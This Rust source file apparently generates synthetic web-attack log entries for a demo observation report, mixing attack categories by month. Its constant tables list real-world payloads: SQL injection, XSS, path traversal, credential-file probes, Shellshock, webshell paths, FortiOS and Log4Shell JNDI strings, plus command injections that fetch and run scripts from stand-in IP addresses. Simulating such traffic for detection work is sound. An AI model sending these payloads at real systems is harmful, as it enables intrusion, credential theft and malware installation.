//! The background attack catalogue: for each report category, the requests that the
//! internet's scanners and bots send every day, with the obfuscations they use.

use kansoku_event::Category;

use crate::agents;
use crate::rng::DemoRng;

/// One attack request before a site decides how it answered.
#[derive(Debug, Clone)]
pub(crate) struct Probe {
    /// HTTP method.
    pub method: &'static str,
    /// Request target, percent-encoded as sent.
    pub target: String,
    /// User-Agent header.
    pub user_agent: String,
    /// Referer header.
    pub referer: Option<String>,
    /// POST body, which only WAF logs show.
    pub body: Option<String>,
    /// Whether the target names a page the site has (answered 200), not a probe for
    /// something absent (answered 404).
    pub page_exists: bool,
}

/// Relative frequency of each category in month `index` of the period. The leaders
/// change from month to month, as they do in real observation reports: August is led
/// by IIS admin probes, September by Oracle consoles, October by credential hunting.
pub(crate) fn month_mix(index: usize) -> [(Category, f64); 11] {
    use Category::*;
    match index % 3 {
        0 => [
            (AdminIis, 26.0),
            (CredentialProbe, 15.0),
            (Sqli, 13.0),
            (WordpressConfig, 8.0),
            (AdminOracle, 7.0),
            (Xss, 7.0),
            (PathTraversal, 7.0),
            (FortiosSslvpn, 6.0),
            (Log4shell, 6.0),
            (Webshell, 5.0),
            (Rce, 4.0),
        ],
        1 => [
            (AdminOracle, 26.0),
            (Sqli, 15.0),
            (WordpressConfig, 12.0),
            (CredentialProbe, 9.0),
            (AdminIis, 7.0),
            (Xss, 7.0),
            (PathTraversal, 7.0),
            (FortiosSslvpn, 6.0),
            (Log4shell, 6.0),
            (Webshell, 5.0),
            (Rce, 4.0),
        ],
        _ => [
            (CredentialProbe, 22.0),
            (FortiosSslvpn, 15.0),
            (AdminIis, 12.0),
            (Sqli, 9.0),
            (AdminOracle, 8.0),
            (WordpressConfig, 8.0),
            (Xss, 7.0),
            (PathTraversal, 6.0),
            (Log4shell, 5.0),
            (Webshell, 4.0),
            (Rce, 4.0),
        ],
    }
}

/// A background attack of category `cat`.
pub(crate) fn probe(rng: &mut DemoRng, cat: Category) -> Probe {
    let mut p = Probe {
        method: "GET",
        target: String::new(),
        user_agent: agents::attack_tool(rng).to_string(),
        referer: None,
        body: None,
        page_exists: false,
    };
    match cat {
        Category::Sqli => {
            let (page, param) = rng.pick(&INJECTABLE);
            p.target = format!("{page}?{param}={}", rng.pick(&SQLI));
            p.page_exists = true;
        }
        Category::Xss => {
            let (page, param) = rng.pick(&INJECTABLE);
            p.target = format!("{page}?{param}={}", rng.pick(&XSS));
            p.page_exists = true;
        }
        Category::PathTraversal => p.target = rng.pick(&TRAVERSAL).to_string(),
        Category::CredentialProbe => p.target = rng.pick(&CREDENTIAL_FILES).to_string(),
        Category::AdminIis => p.target = rng.pick(&IIS_ADMIN).to_string(),
        Category::AdminOracle => p.target = rng.pick(&ORACLE_ADMIN).to_string(),
        Category::FortiosSslvpn => {
            p.target = if rng.chance(0.8) {
                FORTIOS[0].to_string()
            } else {
                rng.pick(&FORTIOS[1..]).to_string()
            };
            p.user_agent = agents::browser(rng).to_string();
        }
        Category::WordpressConfig => p.target = rng.pick(&WORDPRESS_CONFIG).to_string(),
        Category::Log4shell => log4shell(rng, &mut p),
        Category::Webshell => p.target = rng.pick(&WEBSHELLS).to_string(),
        Category::Rce => rce(rng, &mut p),
        _ => p.target = "/".into(),
    }
    p
}

/// A JNDI lookup, plain or obfuscated, in the user agent, the referer or the query.
pub(crate) fn jndi(rng: &mut DemoRng) -> String {
    let callback = rng.pick(&CALLBACKS);
    let form = rng.pick(&JNDI_FORMS);
    form.replace("{cb}", callback)
}

fn log4shell(rng: &mut DemoRng, p: &mut Probe) {
    let payload = jndi(rng);
    p.target = rng
        .pick(&["/", "/login", "/api/v1/login", "/index.html"])
        .to_string();
    p.page_exists = true;
    match rng.weighted(&[6.0, 1.5, 2.5]) {
        0 => p.user_agent = payload,
        1 => p.referer = Some(payload),
        _ => p.target = format!("/?x={}", percent_encode(&payload)),
    }
}

fn rce(rng: &mut DemoRng, p: &mut Probe) {
    match rng.between(0, 5) {
        0 | 1 => {
            p.target = rng
                .pick(&["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/bash"])
                .to_string();
            p.user_agent = SHELLSHOCK.to_string();
        }
        2 => {
            p.method = "POST";
            p.target = "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh".into();
            p.body = Some("echo Content-Type: text/plain; echo; id".into());
        }
        3 => {
            p.method = "POST";
            p.target = "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php".into();
            p.body = Some("<?php echo(md5(\"hello\")); ?>".into());
        }
        _ => p.target = rng.pick(&RCE_URLS).to_string(),
    }
}

/// Percent-encodes everything but unreserved characters, as attack tools do.
pub(crate) fn percent_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

const INJECTABLE: [(&str, &str); 7] = [
    ("/search", "q"),
    ("/products/list", "id"),
    ("/item.php", "id"),
    ("/index.php", "page"),
    ("/news/", "cat"),
    ("/api/v1/products", "sort"),
    ("/login", "redirect"),
];

const SQLI: [&str; 14] = [
    "1%27%20OR%20%271%27%3D%271",
    "1'+OR+1=1--+",
    "-1+UNION/**/SELECT+NULL,NULL,CONCAT(0x71766b7a71,user(),0x716a707671)--+-",
    "1%20AND%20SLEEP(5)",
    "1)%20AND%201%3D1%20AND%20(1%3D1",
    "1%27%20UnIoN%20SeLeCt%201,2,3,table_name%20FROM%20information_schema.tables--",
    "1;WAITFOR%20DELAY%20%270:0:5%27--",
    "%2527%2520OR%25201%253D1--",
    "1%27%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,(SELECT%20version())))--%20-",
    "admin%27--",
    "1'%7C%7Cpg_sleep(5)--",
    "1%27/**/aNd/**/1=1/**/--",
    "1%20AND%201=CAST((CHR(113)||CHR(107)||(SELECT%20version()))::text%20AS%20NUMERIC)",
    "-5305%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL%23",
];

const XSS: [&str; 9] = [
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%22%3E%3Csvg/onload=alert(document.domain)%3E",
    "%3Cimg%20src%3Dx%20onerror%3Dalert%28document.cookie%29%3E",
    "javascript%3Aalert(1)",
    "%3CScRiPt%3Eprompt(1)%3C%2FsCrIpT%3E",
    "%27%22%3E%3Ciframe%20src%3Djavascript:alert(1)%3E",
    "%3Cbody%20onload%3Dalert(%27XSS%27)%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%3Cdetails%20open%20ontoggle%3Dconfirm(1)%3E",
];

const TRAVERSAL: [&str; 8] = [
    "/download?file=../../../../etc/passwd",
    "/download.php?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/static/..%252f..%252f..%252f..%252fetc/passwd",
    "/images/..%c0%af..%c0%af..%c0%afetc/passwd",
    "/index.php?page=....//....//....//....//etc/passwd",
    "/?file=..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/assets/..%2f..%2f..%2f..%2f..%2fproc%2fself%2fenviron",
];

const CREDENTIAL_FILES: [&str; 18] = [
    "/.env",
    "/.env",
    "/.env.bak",
    "/.env.production",
    "/api/.env",
    "/laravel/.env",
    "/.git/config",
    "/.git/config",
    "/.git/HEAD",
    "/backup.sql",
    "/db.sql",
    "/dump.sql.gz",
    "/.aws/credentials",
    "/config.json",
    "/.ssh/id_rsa",
    "/.svn/entries",
    "/.htpasswd",
    "/.docker/config.json",
];

const IIS_ADMIN: [&str; 13] = [
    "/iisadmin/",
    "/_vti_bin/",
    "/scripts/iisadmin/",
    "/iisadmpwd/aexp2.htr",
    "/_vti_bin/_vti_aut/author.dll",
    "/_vti_bin/shtml.dll",
    "/_vti_pvt/service.pwd",
    "/iishelp/",
    "/msadc/msadcs.dll",
    "/scripts/iisadmin/ism.dll?http/dir",
    "/iisadmin/default.htm",
    "/_vti_inf.html",
    "/iissamples/",
];

const ORACLE_ADMIN: [&str; 12] = [
    "/em/console",
    "/em/console/logon/logon",
    "/console/login/LoginForm.jsp",
    "/isqlplus",
    "/isqlplus/login.uix",
    "/OA_HTML/AppsLocalLogin.jsp",
    "/dms0",
    "/dmsDump",
    "/OA_HTML/BneViewerXMLService?bne:page=BneMsgBox",
    "/pls/portal/",
    "/reports/rwservlet/showenv",
    "/console/css/%252e%252e%252fconsole.portal",
];

const FORTIOS: [&str; 4] = [
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/remote/fgt_lang?lang=/../../../..//////////////////////////bin/sslvpnd",
    "/remote/fgt_lang?lang=/../../../..//////////dev/",
    "/remote/login?lang=en",
];

const WORDPRESS_CONFIG: [&str; 13] = [
    "/wp-config.php~",
    "/wp-config.php.bak",
    "/wp-content/backup-db/",
    "/wp-config.php.save",
    "/wp-config.php.old",
    "/wp-config.php.orig",
    "/wp-config.php.swp",
    "/.wp-config.php.swp",
    "/wp-config.txt",
    "/wp-config.php_bak",
    "/blog/wp-config.php.bak",
    "/wp/wp-config.php~",
    "/wp-content/backups-dup-lite/",
];

const WEBSHELLS: [&str; 12] = [
    "/shell.php?cmd=id",
    "/wso.php",
    "/c99.php",
    "/r57.php",
    "/alfa.php",
    "/uploads/x.php?cmd=uname%20-a",
    "/wp-content/plugins/wp-file-manager/lib/files/shell.php",
    "/cmd.jsp?cmd=whoami",
    "/b374k.php",
    "/wp-content/uploads/2026/07/up.php",
    "/images/.x.php",
    "/admin/upload/cmd.aspx?cmd=whoami",
];

const SHELLSHOCK: &str = "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'";

const RCE_URLS: [&str; 4] = [
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=system&vars%5B1%5D%5B%5D=id",
    "/?cmd=%3Bcat%20%2Fetc%2Fpasswd",
    "/ping.php?host=127.0.0.1%3Bwget%20http%3A%2F%2F198.51.100.9%2Fx.sh%3Bsh%20x.sh",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/bins/x86;chmod+777+x86;./x86",
];

const CALLBACKS: [&str; 4] = [
    "198.51.100.77:1389",
    "203.0.113.99:1389",
    "cb7f2k.oast.example.net",
    "log4j.scan.example.org",
];

const JNDI_FORMS: [&str; 8] = [
    "${jndi:ldap://{cb}/a}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://{cb}/Exploit}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://{cb}/o}",
    "${jndi:dns://{cb}/probe}",
    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://{cb}/Basic/Command/Base64/d2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3guc2ggLU8gL3RtcC94LnNoO3NoIC90bXAveC5zaA==}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//{cb}/a}",
    "${jndi:ldap://127.0.0.1#{cb}/a}",
    "${${upper:j}ndi:rmi://{cb}/x}",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_month_has_a_different_leader() {
        let leaders: Vec<Category> = (0..3)
            .map(|m| {
                month_mix(m)
                    .into_iter()
                    .max_by(|a, b| a.1.total_cmp(&b.1))
                    .map(|(c, _)| c)
                    .expect("non-empty mix")
            })
            .collect();
        assert_eq!(
            leaders,
            [
                Category::AdminIis,
                Category::AdminOracle,
                Category::CredentialProbe
            ]
        );
    }

    #[test]
    fn probes_never_break_a_request_line() {
        let mut rng = DemoRng::stream(5, "probe");
        for (cat, _) in month_mix(0) {
            for _ in 0..200 {
                let p = probe(&mut rng, cat);
                assert!(p.target.starts_with('/'), "{cat:?}: {}", p.target);
                assert!(!p.target.contains([' ', '"']), "{cat:?}: {}", p.target);
            }
        }
    }
}
